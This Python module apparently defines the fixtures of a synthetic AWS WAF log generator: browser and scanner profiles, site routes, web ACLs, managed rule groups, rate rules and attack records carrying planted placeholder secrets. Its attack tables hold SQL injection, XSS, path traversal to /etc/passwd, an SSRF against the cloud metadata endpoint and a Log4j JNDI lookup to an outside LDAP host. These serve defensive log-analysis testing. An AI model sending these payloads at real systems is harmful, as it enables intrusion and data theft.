"""The world behind ``devtools.generate``: accounts, web ACLs, rule groups, client software and attacks.

Shapes copy real records (shared/reference/waf-log-format.md §1-§3, shared/waf-samples). Nothing here
depends on the seed: ids are ``uuid5`` of names, and ``web_acl_plans()`` resolves each web ACL once
into weighted outcomes whose lists are shared by every record that uses them. The tables are laid out
by hand (``fmt: off``) because one row per line is how they are read. ``generate_plans`` turns them
into outcomes.
"""

from __future__ import annotations

import uuid
from dataclasses import dataclass
from typing import Final

Json = dict[str, object]

PLANTED_SECRET_PREFIX: Final = "wlsecret-"
# Where a table below plants a secret: the generator gives each record that carries it a fresh one.
# DEL ends it because nothing else generated contains one, so a single-byte search finds the slots.
SECRET: Final = PLANTED_SECRET_PREFIX + "\x7f"
START_MS: Final = 1_767_571_200_000  # 2026-01-05T00:00:00Z
SPAN_MS: Final = 3 * 86_400_000


def stable_uuid(what: str) -> str:
    """A fixed UUID for a named thing, so ARNs are the same for every seed."""
    return str(uuid.uuid5(uuid.NAMESPACE_URL, f"waflens:{what}"))


@dataclass(frozen=True, slots=True)
class Profile:
    """Client software: its User-Agent, the headers it sends after Host and User-Agent, bot labels."""

    user_agent: str
    headers: tuple[tuple[str, str], ...] = ()
    version: str = "HTTP/2.0"  # HTTP/2 clients send lower-case header names
    bot_labels: tuple[str, ...] = ()


@dataclass(frozen=True, slots=True)
class Route:
    """An ordinary request; ``{id}`` in the URI becomes one of a few seeded ids."""

    method: str
    uri: str
    args: tuple[str, ...] = ("",)
    weight: float = 1


@dataclass(frozen=True, slots=True)
class Detail:
    """One SQLi/XSS match detail (``sensitivityLevel`` is logged for SQLi only)."""

    condition: str
    location: str
    tokens: tuple[str, ...]
    sensitivity: str | None = None
    field: str | None = None  # matchedFieldName: the single header, cookie or argument inspected

    def as_json(self) -> Json:
        """The ``MatchDetail`` object, keys in the order real records have them."""
        out: Json = {
            "conditionType": self.condition,
            "location": self.location,
            "matchedData": list(self.tokens),
        }
        if self.sensitivity is not None:
            out["sensitivityLevel"] = self.sensitivity
        if self.field is not None:
            out["matchedFieldName"] = self.field
        return out


@dataclass(frozen=True, slots=True)
class Attack:
    """A request that trips a rule; ``None`` fields keep the ordinary request's value."""

    method: str | None = None
    uri: str | None = None
    args: str | None = None
    profile: str | None = None
    clients: str = "attacker"  # normal | attacker | flood
    header: tuple[str, str] | None = None
    details: tuple[Detail, ...] = ()
    body: int = 0  # body bytes; 0 draws an ordinary size for POST, PUT and PATCH

    def details_json(self) -> list[Json]:
        """The match details as logged (empty for anything but SQLi and XSS)."""
        return [d.as_json() for d in self.details]


@dataclass(frozen=True, slots=True)
class Rule:
    """A rule in a rule group, the action it is configured with and the attack family it catches."""

    rule_id: str
    action: str
    attack: str
    labels: tuple[str, ...] = ()


@dataclass(frozen=True, slots=True)
class Group:
    """A rule group: the rules that terminate, its managed configuration and its override cases."""

    managed: str | None  # "AWS#Name[#Version_x]"; None for a rule group in the web ACL's account
    rules: tuple[Rule, ...]
    label_ns: str = ""
    config: tuple[tuple[str, str], ...] | None = None
    count_rule: Rule | None = None  # a rule action override: logged as COUNT with overriddenAction BLOCK
    excluded: Rule | None = None  # a legacy EXCLUDED_AS_COUNT exclusion
    can_count: bool = False  # the web ACL sometimes overrides the whole group to COUNT
    inner_details: bool = False  # its terminatingRule logs ruleMatchDetails too (usually null)


@dataclass(frozen=True, slots=True)
class Resource:
    """A protected resource: ``httpSourceName``, ``httpSourceId``, host, site routes, client mix."""

    source: str
    source_id: str
    host: str
    site: str
    mix: str
    weight: int = 1
    prefix: str = ""  # API Gateway logs the stage as the first path segment


@dataclass(frozen=True, slots=True)
class CustomKey:
    """One custom aggregation key of a rate-based rule, logged as a ``customValues`` entry."""

    kind: str  # HEADER | COOKIE | QUERY_ARGUMENT | QUERY_STRING
    name: str = ""  # the header, cookie or argument (none for QUERY_STRING)
    secret: bool = True  # the value is a credential (a planted secret), not a tenant name


@dataclass(frozen=True, slots=True)
class RateRule:
    """A rate-based rule; ``window`` is the string "120" where the docs' type drift is reproduced."""

    name: str
    limit_key: str
    max_rate: int
    window: int | str
    keys: tuple[CustomKey, ...] = ()  # CUSTOMKEYS: what the rule aggregates on


@dataclass(frozen=True, slots=True)
class WebAcl:
    """A web ACL: rule groups in evaluation order, what it protects, its share of all records."""

    account: str
    name: str
    region: str
    groups: tuple[str, ...]
    resources: tuple[Resource, ...]
    rate_rules: tuple[str, ...] = ("rate-limit-per-ip",)
    weight: int = 10
    geo_labels: bool = False
    fms_post: tuple[str, ...] | None = None  # Firewall Manager: the post rule groups (None: not FMS)

    @property
    def scope(self) -> str:
        """``global`` for CloudFront web ACLs (always in us-east-1), ``regional`` otherwise."""
        return "global" if self.resources[0].source == "CF" else "regional"

    @property
    def acl_id(self) -> str:
        """The web ACL id, the last segment of its ARN."""
        return stable_uuid(f"webacl/{self.account}/{self.name}")

    @property
    def arn(self) -> str:
        """The ``webaclId``."""
        return f"arn:aws:wafv2:{self.region}:{self.account}:{self.scope}/webacl/{self.name}/{self.acl_id}"


# fmt: off
_ACCEPT: Final = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"
_NAV: Final = (("Sec-Fetch-Site", "same-origin"), ("Sec-Fetch-Mode", "navigate"),
                ("Sec-Fetch-Dest", "document"))
_APP: Final = (("Accept", "application/json"), ("Accept-Encoding", "gzip"),
                ("Content-Type", "application/json"))
_LIB: Final = (("Accept-Encoding", "gzip, deflate"), ("Accept", "*/*"), ("Connection", "keep-alive"))
_ANY: Final = (("Accept", "*/*"),)
_CHROME: Final = "Mozilla/5.0 ({}) AppleWebKit/537.36 (KHTML, like Gecko) {}Chrome/131.0.0.0 Safari/537.36"
_WIN: Final = "Windows NT 10.0; Win64; x64"
_H1: Final = "HTTP/1.1"


def _chrome(platform: str, lang: str) -> tuple[tuple[str, str], ...]:
    hints = (("Sec-Ch-Ua", '"Google Chrome";v="131", "Chromium";v="131", "Not_A Brand";v="24"'),
             ("Sec-Ch-Ua-Mobile", "?0"), ("Sec-Ch-Ua-Platform", f'"{platform}"'), ("Accept", _ACCEPT))
    return (*hints, *_NAV, ("Accept-Encoding", "gzip, deflate, br, zstd"), ("Accept-Language", lang))


def _bot(category: str, name: str, org: str) -> tuple[str, ...]:
    return tuple(f"awswaf:managed:aws:bot-control:bot:{label}" for label in
                 ("verified", f"category:{category}", f"name:{name}", f"organization:{org}"))


PROFILES: Final[dict[str, Profile]] = {
    "chrome_win":  Profile(_CHROME.format(_WIN, ""), _chrome("Windows", "en-US,en;q=0.9")),
    "chrome_mac":  Profile(_CHROME.format("Macintosh; Intel Mac OS X 10_15_7", ""), _chrome("macOS", "de")),
    "edge_win":    Profile(_CHROME.format(_WIN, "") + " Edg/131.0.0.0", _chrome("Windows", "fr-FR,fr;q=0.9")),
    "firefox":     Profile("Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:138.0) Gecko/20100101 Firefox/138.0",
                           (("Accept", _ACCEPT), ("Accept-Language", "en-US,en;q=0.5"), *_NAV)),
    "safari_ios":  Profile("Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 "
                           "(KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
                           (("Accept", _ACCEPT), *_NAV, ("Accept-Language", "en-GB,en;q=0.9"))),
    "android_app": Profile("okhttp/4.12.0", _APP),
    "ios_app":     Profile("PaymentsApp/5.2.1 (iPhone; iOS 18.1; Scale/3.00) CFNetwork/1568.200.51", _APP),
    "aws_sdk":     Profile("aws-sdk-js/3.693.0 ua/2.1 os/linux#5.10 lang/js md/nodejs#20.18.0", _ANY, _H1),
    "curl":        Profile("curl/8.5.0", _ANY, _H1),
    "python":      Profile("python-requests/2.32.3", _LIB, _H1),
    "go":          Profile("Go-http-client/1.1", (("Accept-Encoding", "gzip"),), _H1),
    "node":        Profile("node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", _LIB, _H1),
    "googlebot":   Profile("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", _ANY,
                           _H1, _bot("search_engine", "googlebot", "google")),
    "bingbot":     Profile("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", _ANY,
                           _H1, _bot("search_engine", "bingbot", "microsoft")),
    "route53":     Profile("Amazon-Route53-Health-Check-Service (ref 25a307ce-a064-411c-9a37-ddf2c116e6bf; "
                           "report http://amzn.to/1vsZADi)", (("Connection", "close"),), _H1,
                           _bot("monitoring", "route53_health_check", "amazon")),
    "headless":    Profile(_CHROME.format("X11; Linux x86_64", "Headless"), _ANY),
    "sqlmap":      Profile("sqlmap/1.8.11#stable (https://sqlmap.org)", _ANY, _H1),
    "nikto":       Profile("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000512)", (), _H1),
    "zgrab":       Profile("Mozilla/5.0 zgrab/0.x", _ANY, _H1),
    "nuclei":      Profile(_CHROME.format(_WIN, "") + " nuclei", (("Connection", "close"),)),
    "masscan":     Profile("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", (), "HTTP/1.0"),
    "log4j":       Profile("${jndi:ldap://45.83.64.1:1389/Exploit}", _ANY, _H1),
    "no_ua":       Profile("", _ANY, _H1),
    "psp":         Profile("Stripe/1.0 (+https://stripe.com/docs/webhooks)", _APP, _H1),
}
MIXES: Final[dict[str, tuple[tuple[str, int], ...]]] = {
    "web": (("chrome_win", 22), ("chrome_mac", 12), ("firefox", 6), ("safari_ios", 12), ("edge_win", 5),
            ("googlebot", 3), ("bingbot", 1), ("route53", 1), ("curl", 1)),
    "api": (("android_app", 20), ("ios_app", 16), ("python", 6), ("go", 4), ("node", 4), ("curl", 3),
            ("chrome_win", 6), ("route53", 1)),
    "cognito": (("aws_sdk", 10), ("chrome_win", 4), ("safari_ios", 3), ("android_app", 3)),
}

_TERMS: Final = ("laptop", "running+shoes", "caf%C3%A9+au+lait", "usb-c+hub", "gift+card", "%E6%97%A5")
_SEARCH: Final = (*(f"q={t}" for t in _TERMS), *(f"q={t}&page={p}" for t in _TERMS[:3] for p in (2, 3)))
_OAUTH: Final = "response_type=code&client_id=6cs8r1dk25imd1l655mo565dav&redirect_uri=https%3A%2F%2Fapp.ex"
_GET, _POST = "GET", "POST"
_S: Final = SECRET
# A presigned S3 link: the credential, the session token and the signature are all secret.
_PRESIGNED: Final = (f"X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential={_S}%2F20260105%2Fus-east-1%2Fs3%2F"
                     f"aws4_request&X-Amz-Date=20260105T120000Z&X-Amz-Expires=300&X-Amz-Security-Token={_S}"
                     f"&X-Amz-SignedHeaders=host&X-Amz-Signature={_S}")
# Credentials in query strings (a few percent of requests: legacy clients, presigned links, Java sessions).
SITES: Final[dict[str, tuple[Route, ...]]] = {
    "shop": (
        Route(_GET, "/", weight=10), Route(_GET, "/favicon.ico", weight=4), Route(_GET, "/cart", weight=3),
        Route(_GET, "/static/js/app.3f9c.js", weight=6), Route(_GET, "/static/css/main.8a7d.css", weight=4),
        Route(_GET, "/images/products/{id}.webp", ("", "w=640&q=75"), 6), Route(_GET, "/search", _SEARCH, 5),
        Route(_GET, "/products/{id}", ("", "ref=home", "utm_source=newsletter&utm_medium=email"), 8),
        Route(_POST, "/checkout", weight=2), Route(_GET, "/account/orders", ("", "page=2"), 2),
        Route(_GET, "/robots.txt"), Route(_POST, "/login"),
        Route(_GET, "/account/orders", (f"access_token={_S}", f"page=2&access_token={_S}"), 0.5),
        Route(_GET, f"/cart;jsessionid={_S}", weight=0.5),
        Route(_GET, "/exports/orders.csv", (_PRESIGNED,), 0.5),
    ),
    "payments_api": (
        Route(_POST, "/v1/payments", weight=6), Route(_GET, "/v1/payments/{id}", ("", "expand=customer"), 8),
        Route(_POST, "/v1/payments/{id}/capture", weight=2), Route(_POST, "/v1/refunds"),
        Route(_GET, "/v1/health", weight=3), Route(_POST, "/v1/auth/login"),
        Route(_GET, "/v1/payments/{id}", (f"api_key={_S}", f"expand=customer;api_key={_S}", f"API_KEY={_S}"),
              0.6),
    ),
    "search": (
        Route(_GET, "/", weight=3), Route(_GET, "/search", _SEARCH, 10), Route(_GET, "/s.js", weight=2),
        Route(_GET, "/suggest", ("q=lap", "q=caf%C3%A9", "q=usb"), 5),
        Route(_GET, "/search", (f"q=laptop&sig={_S}", f"Signature={_S}&q=usb-c+hub"), 0.5),
    ),
    "search_api": (
        Route(_GET, "/v2/search", _SEARCH, 10), Route(_GET, "/v2/items/{id}", weight=5), Route(_GET, "/ping"),
        Route(_GET, "/v2/search", (f"apikey={_S}&q=laptop", f"q=gift+card&api-key={_S}"), 0.5),
    ),
    "graphql": (Route(_POST, "/graphql"),),
    "cognito": (
        Route(_POST, "/", weight=10), Route(_POST, "/oauth2/token", weight=3),
        Route(_GET, "/oauth2/authorize", (_OAUTH,), 2), Route(_GET, "/.well-known/openid-configuration"),
        Route(_GET, "/oauth2/userInfo", (f"access_token={_S}", f"id_token={_S}"), 0.3),
        Route(_POST, "/oauth2/token", (f"grant_type=refresh_token&refresh_token={_S}&client_secret={_S}",),
              0.3),
    ),
    "identity_api": (
        Route(_POST, "/v1/sessions", weight=4), Route(_GET, "/v1/users/{id}", weight=3),
        Route(_POST, "/v1/password-reset"),
        Route(_GET, "/v1/login", (f"user=alice&password={_S}", f"user=bob&pwd={_S}",
                                  f"passwd={_S}&user=carol"), 0.15),
        Route(_GET, "/v1/sessions", (f"token={_S}", f"SessionId={_S}"), 0.15),
    ),
    "apprunner": (
        Route(_GET, "/", weight=3), Route(_GET, "/api/v1/status", weight=4), Route(_POST, "/api/v1/jobs"),
        Route(_GET, "/api/v1/jobs/{id}", weight=3), Route(_GET, "/index.php", (f"PHPSESSID={_S}",), 0.1),
        Route(_GET, "/api/v1/jobs/{id}", (f"auth_token={_S}",), 0.1),
        Route(_GET, "/api/v1/status", (f"secret={_S}",), 0.1),
    ),
}

_SQLI: Final = "SQL_INJECTION"
_ALL_ARGS: Final = "ALL_QUERY_ARGS"
ATTACKS: Final[dict[str, tuple[Attack, ...]]] = {
    "sqli_args": (
        Attack(_GET, "/products", "id=1%27%20OR%20%271%27%3D%271", "sqlmap",
               details=(Detail(_SQLI, _ALL_ARGS, ("1'", "OR", "'1'='1"), "HIGH"),)),
        Attack(_GET, "/search", "o=10 AND 1=1", "curl",
               details=(Detail(_SQLI, _ALL_ARGS, ("10", "AND", "1"), "LOW"),)),
        Attack(_GET, "/v1/payments", f"api_key={_S}%27%20OR%20%271%27%3D%271", "sqlmap",
               details=(Detail(_SQLI, _ALL_ARGS, (f"{_S}'", "OR", "'1'='1"), "HIGH", "api_key"),)),
    ),
    "sqli_arg_token": (Attack(_GET, "/search", f"q=laptop&apikey={_S}%22%20OR%20%22%22%3D%22", "python",
                              details=(Detail(_SQLI, "SINGLE_QUERY_ARG", (f'{_S}"', "OR", '""="'), "LOW",
                                              "apikey"),)),),
    "sqli_cookie": (Attack(_GET, "/account/orders", "", "sqlmap",
                           header=("Cookie", f"session={_S}'%20OR%201=1--; theme=dark"),
                           details=(Detail(_SQLI, "COOKIE", (f"{_S}'", "OR", "1=1--"), "HIGH",
                                           "session"),)),),
    "sqli_header": (
        Attack(profile="sqlmap", header=("Authorization", f"Bearer {_S}' OR 1=1--"),
               details=(Detail(_SQLI, "HEADER", (f"{_S}'", "OR", "1=1--"), "HIGH", "authorization"),)),
        Attack(profile="sqlmap", header=("X-Api-Key", f"{_S}' AND SLEEP(5)--"),  # all headers: no field name
               details=(Detail(_SQLI, "HEADER", (f"{_S}'", "AND", "SLEEP(5)--"), "LOW"),)),
    ),
    # False positives on session cookies, the reason teams override a cookie rule to COUNT.
    "xss_cookie": (
        Attack(clients="normal", header=("cookie", f"session={_S}%3Cimg%20src%3Dx%3E; theme=dark"),
               details=(Detail("XSS", "COOKIE", (f"{_S}<img", "src=x>"), field="session"),)),
        Attack(clients="normal", header=("cookie", f"remember_token={_S}%22%3E%3Csvg%3E"),
               details=(Detail("XSS", "COOKIE", (f'{_S}">', "<svg>")),)),
    ),
    "sqli_body": (Attack(_POST, "/login.php", "", "python", body=74,
                         details=(Detail(_SQLI, "BODY", ("email", "=", "=''or", "email.com"), "LOW"),)),),
    "sqli_uri": (Attack(_GET, "/SELECT-1e1FROM%60test%60", "", "nikto",
                        details=(Detail(_SQLI, "URI", ("SELECT", "1e1", "FROM", "test"), "HIGH"),)),),
    "xss_args": (Attack(_GET, "/search", "q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", "nuclei",
                        details=(Detail("XSS", _ALL_ARGS, ("<script", ">alert(document.cookie)<")),)),),
    "xss_body": (Attack(_POST, "/comments", "", "python",
                        details=(Detail("XSS", "BODY", ("<", "frameset")),)),),
    "lfi": (Attack(_GET, "/static/../../../../etc/passwd", "", "nikto"),),
    "ssrf": (Attack(_GET, "/proxy", "url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", "nuclei"),),
    "no_ua": (Attack(profile="no_ua"),),
    "big_body": (Attack(_POST, "/upload", "", "python", body=70_000),),
    "log4j": (Attack(_GET, "/", "", "log4j", header=("X-Api-Version", "${jndi:ldap://45.83.64.1:1389/a}")),),
    "exploitable": (Attack(_GET, "/WEB-INF/web.xml", "", "zgrab"),),
    "scanner": (Attack(_GET, "/.env", "", "zgrab"), Attack(_GET, "/wp-login.php", "", "nikto"),
                Attack(_GET, "/.git/config", "", "zgrab"), Attack(_GET, "/phpmyadmin/", "", "masscan")),
    "admin": (Attack(_GET, "/admin", "", "curl"), Attack(_GET, "/actuator/env", "", "nuclei")),
    "badip": (Attack(),),
    "http_lib": (Attack(profile="python"), Attack(profile="go")),
    "headless": (Attack(profile="headless"),),
    "flood": (Attack(clients="flood"),),
    "login": (Attack(_POST, "/login", "", clients="normal"),),
    "webhook": (Attack(_POST, "/v1/webhooks/psp", "", "psp", clients="normal"),),
    "partner": (Attack(clients="normal"),),
    "bulk_export": (Attack(_POST, "/v2/search/bulk", "export=all&limit=100000", "python"),),
    "introspection": (Attack(_POST, "/graphql", "", "node"),),
}

_M: Final = "awswaf:managed:aws:"
_EXEMPT: Final = r"^\/api\/|\.(css|gif|ico|jpe?g|js|png|woff2?)$"
GROUPS: Final[dict[str, Group]] = {
    "eng-payments-allowlist": Group(None, (Rule("allow-partner-ips", "ALLOW", "partner", ("partner",)),
                                           Rule("allow-psp-webhooks", "ALLOW", "webhook", ("psp-webhook",)))),
    "eng-search-api-guard": Group(None, (Rule("deny-bulk-export", "BLOCK", "bulk_export", ("bulk-export",)),
                                         Rule("deny-graphql-introspection", "BLOCK", "introspection"))),
    "sec-baseline-blocklist": Group(None, (Rule("block-known-scanners", "BLOCK", "scanner", ("scanner",)),
                                           Rule("block-threat-intel-ips", "BLOCK", "badip",
                                                ("threat-intel",)),
                                           Rule("block-sqli-in-credentials", "BLOCK", "sqli_header",
                                                ("sqli-credentials",))), inner_details=True),
    "common": Group("AWS#AWSManagedRulesCommonRuleSet", (
        Rule("CrossSiteScripting_QUERYARGUMENTS", "BLOCK", "xss_args",
             ("CrossSiteScripting_QueryArguments",)),
        Rule("CrossSiteScripting_BODY", "BLOCK", "xss_body", ("CrossSiteScripting_Body",)),
        Rule("GenericLFI_URIPATH", "BLOCK", "lfi", ("GenericLFI_URIPath",)),
        Rule("EC2MetaDataSSRF_QUERYARGUMENTS", "BLOCK", "ssrf", ("EC2MetaDataSSRF_QueryArguments",)),
        Rule("NoUserAgent_HEADER", "BLOCK", "no_ua", ("NoUserAgent_Header",)),
        Rule("SizeRestrictions_BODY", "BLOCK", "big_body", ("SizeRestrictions_Body",))),
        _M + "core-rule-set", excluded=Rule("SizeRestrictions_BODY", "BLOCK", "big_body"),
        count_rule=Rule("CrossSiteScripting_COOKIE", "COUNT", "xss_cookie", ("CrossSiteScripting_Cookie",))),
    "sqli": Group("AWS#AWSManagedRulesSQLiRuleSet", (
        Rule("SQLi_QUERYARGUMENTS", "BLOCK", "sqli_args", ("SQLi_QueryArguments",)),
        Rule("SQLi_BODY", "BLOCK", "sqli_body", ("SQLi_Body",)),
        Rule("SQLi_URIPATH", "BLOCK", "sqli_uri", ("SQLi_URIPath",)),
        Rule("SQLi_COOKIE", "BLOCK", "sqli_cookie", ("SQLi_Cookie",))), _M + "sql-database", can_count=True,
        excluded=Rule("SQLiExtendedPatterns_QUERYARGUMENTS", "BLOCK", "sqli_arg_token")),
    "knownbad": Group("AWS#AWSManagedRulesKnownBadInputsRuleSet", (
        Rule("Log4JRCE_HEADER", "BLOCK", "log4j", ("Log4JRCE_Header",)),
        Rule("ExploitablePaths_URIPATH", "BLOCK", "exploitable", ("ExploitablePaths_URIPath",))),
        _M + "known-bad-inputs"),
    "iprep": Group("AWS#AWSManagedRulesAmazonIpReputationList", (
        Rule("AWSManagedIPReputationList", "BLOCK", "badip", ("AWSManagedIPReputationList",)),
        Rule("AWSManagedReconnaissanceList", "BLOCK", "scanner", ("AWSManagedReconnaissanceList",))),
        _M + "amazon-ip-list"),
    "botcontrol": Group("AWS#AWSManagedRulesBotControlRuleSet#Version_5.0", (
        Rule("SignalNonBrowserUserAgent", "BLOCK", "http_lib", ("signal:non_browser_user_agent",)),
        Rule("TGT_SignalBrowserInconsistency", "CAPTCHA", "headless",
             ("targeted:signal:browser_inconsistency",)),
        Rule("TGT_VolumetricIpTokenAbsent", "CHALLENGE", "flood",
             ("targeted:aggregate:volumetric:ip:token_absent",))),
        _M + "bot-control", (("EnableMachineLearning", "null"),),
        count_rule=Rule("CategoryHttpLibrary", "COUNT", "http_lib", ("bot:category:http_library",))),
    "antiddos": Group("AWS#AWSManagedRulesAntiDDoSRuleSet", (
        Rule("ChallengeAllDuringEvent", "CHALLENGE", "flood", ("challengeable-request", "event-detected")),
        Rule("DDoSRequests", "BLOCK", "flood", ("ddos-request",))),
        _M + "anti-ddos", (("SensitivityToBlock", "LOW"), ("SensitivityToChallenge", "HIGH"),
                           ("UrisExemptFromChallenge", _EXEMPT), ("UsageOfChallengeAction", "ENABLED"))),
    "shield": Group(None, (Rule("ShieldMitigationRule_US_EAST_1_7f3c2a", "BLOCK", "flood"),)),
}
_TENANT: Final = CustomKey("HEADER", "x-tenant", secret=False)
RATE_RULES: Final[dict[str, RateRule]] = {
    "rate-limit-per-ip":  RateRule("rate-limit-per-ip", "IP", 2000, 300),
    "login-rate-limit":   RateRule("login-rate-limit", "FORWARDED_IP", 100, "120"),
    "tenant-rate-limit":  RateRule("tenant-rate-limit", "CUSTOMKEYS", 1000, 300, (_TENANT,)),
    "api-key-rate-limit": RateRule("api-key-rate-limit", "CUSTOMKEYS", 500, 300,
                                   (CustomKey("HEADER", "x-api-key"),)),
    "session-rate-limit": RateRule("session-rate-limit", "CUSTOMKEYS", 300, 60,
                                   (CustomKey("COOKIE", "session"),)),
    "token-rate-limit":   RateRule("token-rate-limit", "CUSTOMKEYS", 600, 300,
                                   (CustomKey("QUERY_ARGUMENT", "api_key"), _TENANT)),
    "query-rate-limit":   RateRule("query-rate-limit", "CUSTOMKEYS", 200, 120, (CustomKey("QUERY_STRING"),)),
}


def _apigw(acct: str, api: str, stage: str, region: str, site: str) -> Resource:
    host = f"{api}.execute-api.{region}.amazonaws.com"
    return Resource("APIGW", f"{acct}:{api}:{stage}", host, site, "api", 2, f"/{stage}")


_PAY, _GUARD, _SEC = "eng-payments-allowlist", "eng-search-api-guard", "sec-baseline-blocklist"
_APPSYNC: Final = "arn:aws:appsync:us-west-2:222222222222:apis/ntyfs5efpfdtxpy2x6i6nvbidq"
_APPSYNC_HOST: Final = "xgv77w723jdkfojpi6a2zsw6re.appsync-api.us-west-2.amazonaws.com"
_RUNNER_HOST: Final = "xzmhyexr2p.ap-southeast-2.awsapprunner.com"
WEB_ACLS: Final = (
    WebAcl("111111111111", "payments-web_prod", "us-east-1",
           (_PAY, "common", "sqli", "knownbad", "iprep", "botcontrol", _SEC, "shield"),
           (Resource("CF", "E13XOUZ3C0STES", "www.payments.example.com", "shop", "web", 3),
            Resource("CF", "E2S4G6AQPVW9DQ", "d1x8ph4ymtjz2w.cloudfront.net", "shop", "web")),
           weight=22, geo_labels=True),
    WebAcl("111111111111", "payments-api_prod", "eu-west-1", (_PAY, "iprep", "common", "sqli", _SEC),
           (Resource("ALB", "111111111111-app/payments-api/6a1939d39ac9ef3c", "api.payments.example.com",
                     "payments_api", "api", 3),
            _apigw("111111111111", "b34myvfw0b", "prod", "eu-west-1", "payments_api")),
           ("rate-limit-per-ip", "login-rate-limit", "api-key-rate-limit"), 18),
    WebAcl("222222222222", "search-web_prod", "us-east-1", (_GUARD, "common", "botcontrol", "antiddos"),
           (Resource("CF", "E3DTJP8YLL6OBQ", "search.example.com", "search", "web"),),
           ("rate-limit-per-ip", "session-rate-limit"), 14, geo_labels=True),
    WebAcl("222222222222", "search-api_prod", "us-west-2", (_GUARD, "common", "sqli", "antiddos", _SEC),
           (Resource("ALB", "222222222222-app/search-api/768dd9170f08bb0d", "api.search.example.com",
                     "search_api", "api", 2),
            Resource("APPSYNC", _APPSYNC, _APPSYNC_HOST, "graphql", "api")),
           ("rate-limit-per-ip", "tenant-rate-limit", "token-rate-limit"), 12),
    WebAcl("333333333333", "identity-auth_prod", "eu-west-1",
           ("iprep", "common", "knownbad", "botcontrol", _SEC),
           (Resource("COGNITOIDP", "eu-west-1_IQkt90lKW", "auth.identity.example.com", "cognito", "cognito",
                     3),
            _apigw("333333333333", "ejwlrg1bkl", "live", "eu-west-1", "identity_api")),
           ("rate-limit-per-ip", "login-rate-limit"), 10, geo_labels=True),
    WebAcl("444444444444", "FMManagedWebACLV2-shield-baseline-1613138918901", "us-east-1",
           ("common", "knownbad", _SEC, "iprep", "shield"),
           (Resource("CF", "E1K7QZP2M9WX4R", "status.platform.example.com", "shop", "web"),),
           weight=8, fms_post=(_SEC, "iprep")),
    WebAcl("444444444444", "platform-apps_prod", "ap-southeast-2", ("common", "knownbad", _SEC),
           (Resource("APPRUNNER", "8fe1e10304f84fd2b0df550fe98a71fa", _RUNNER_HOST, "apprunner", "api", 2),
            Resource("ALB", "444444444444-app/platform-ingress/3c1f9a7e5b2d4c60", "apps.platform.example.com",
                     "apprunner", "api")),
           ("rate-limit-per-ip", "api-key-rate-limit", "query-rate-limit"), 8),
    WebAcl("555555555555", "legacy-site_main", "us-west-2", ("common",),
           (Resource("ALB", "555555555555-app/legacy-web/0f1e2d3c4b5a6978", "legacy.example.org", "shop",
                     "web", 2),
            _apigw("555555555555", "q1w2e3r4t5", "v1", "us-west-2", "payments_api")),
           ("rate-limit-per-ip", "session-rate-limit"), 6),
)
# WAF Classic: a bare GUID web ACL, no match details, a null requestId (waf-log-format.md §2).
CLASSIC_ACLS: Final = ("2668f4a5-da32-4d63-bea8-1ed02607da4f", "7d1c0b9e-3f4a-4e2b-9c8d-5a6b7c8d9e0f")
CLASSIC_RULES: Final = ("56d04362-6fab-4cb7-a314-819a1bd40cc6", "0b3e9f1a-8c2d-4e5f-a6b7-c8d9e0f1a2b3")
CLASSIC_RESOURCE: Final = Resource("ALB", "555555555555-app/legacy-classic/70e9bf09a00ca695",
                                   "classic.example.org", "shop", "web")

COUNTRIES: Final = (
    ("US", ("CA", "VA", "NY", "TX", "WA"), 30), ("DE", ("HE", "BE", "BY"), 8), ("GB", ("ENG", "SCT"), 7),
    ("FR", ("IDF", "ARA"), 5), ("NL", ("NH",), 4), ("IE", ("D",), 3), ("IN", ("MH", "KA"), 6),
    ("JP", ("13", "27"), 5), ("BR", ("SP",), 4), ("AU", ("NSW", "VIC"), 5), ("SG", ("01",), 2),
    ("CA", ("ON", "QC"), 4), ("CN", ("BJ",), 3), ("RU", ("MOW",), 2), ("KR", ("11",), 2), ("ES", ("MD",), 2),
    ("VN", ("SG",), 2), ("TR", ("34",), 1),
)
IPV4_FIRST_OCTETS: Final = (3, 13, 18, 31, 34, 37, 45, 46, 52, 54, 62, 66, 72, 77, 81, 84, 85, 91, 94, 101,
                            103, 109, 114, 120, 138, 141, 151, 176, 178, 185, 188, 193, 195, 203, 212, 217)
IPV6_PREFIXES: Final = ("2600:1f18", "2a02:c7c", "2001:4860", "2406:da14", "2a01:4f8", "2804:14c")
MASKED_IPS: Final = ("X.X.X.X", "85.90.*.*", "xxx.xxx.xxx.xxx")  # how published samples anonymise
TENANTS: Final = ("acme", "globex", "initech", "umbrella")
TOKEN_FAILURES: Final = ("TOKEN_MISSING",) * 5 + ("TOKEN_EXPIRED", "TOKEN_INVALID", "TOKEN_DOMAIN_MISMATCH")
BODY_SIZES: Final = ((74, 8), (187, 12), (358, 10), (512, 8), (1024, 6), (1678, 5), (4096, 3), (9000, 2),
                     (12_000, 1))
# Planted secrets: header spellings and value format per kind ("{}" is the secret), and kind weights.
SECRET_HEADERS: Final[dict[str, tuple[tuple[str, ...], str]]] = {
    "bearer":   (("Authorization", "authorization", "AUTHORIZATION"), "Bearer {}"),
    "cookie":   (("Cookie", "cookie"), "session={}; theme=dark"),
    "apikey":   (("X-Api-Key", "x-api-key"), "{}"),
    "proxy":    (("Proxy-Authorization", "proxy-authorization"), "Basic {}"),
    "token":    (("X-Auth-Token", "x-auth-token"), "{}"),
    "csrf":     (("X-CSRF-Token", "x-xsrf-token", "X-XSRF-TOKEN"), "{}"),
    "sts":      (("X-Amz-Security-Token", "x-amz-security-token"), "IQoJb3JpZ2luX2VjE{}"),
    # a URL as the Referer: a token in its query string, a password in its user-info
    "referer":  (("Referer", "referer"), "https://app.example.net/callback?state=af0ifjsldkj&access_token={}"),
    "userinfo": (("Referer",), "https://deploy:{}@ci.example.net/job/42/"),
}
